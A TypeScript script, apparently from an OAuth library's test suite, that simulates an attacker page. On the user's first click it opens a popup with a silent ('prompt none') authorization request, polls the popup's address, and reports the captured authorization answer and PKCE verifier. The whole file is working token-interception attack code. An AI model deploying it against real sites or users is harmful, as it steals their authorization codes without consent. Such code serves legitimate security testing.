import { report } from "./report.ts";
import { addressWithAnswer } from "./window-address.ts";
import { randomToken } from "../../../src/oauth/random.ts";
import { challengeFor } from "../print/requests.ts";
import { withQuery } from "../../../src/oauth/wire.ts";

// Runs in a page of a signed-in user. At the next click, which lets it open a window, it asks for a new answer without a
// question to the user, and reads the window's address as soon as that is of the page's own origin again.

const { dataset } = document.currentScript ?? document.documentElement;
const { request = "", pkce } = dataset;

document.addEventListener("click", () => void ask(), { once: true });

async function ask(): Promise<void> {
  if (document.querySelector("main")?.dataset["state"] !== "photos") return;
  const opened = window.open("about:blank", "silent", "popup");
  const verifier = randomToken();
  const challenge = pkce === "true" ? await challengeFor(verifier) : {};
  if (opened === null) return report("no window");
  opened.location.href = withQuery(request, { ...challenge, prompt: "none", state: "mallory" });
  const timer = setInterval(() => {
    const address = addressWithAnswer(opened);
    if (address === undefined) return;
    clearInterval(timer);
    report(JSON.stringify({ address, verifier }));
  }, 5);
}
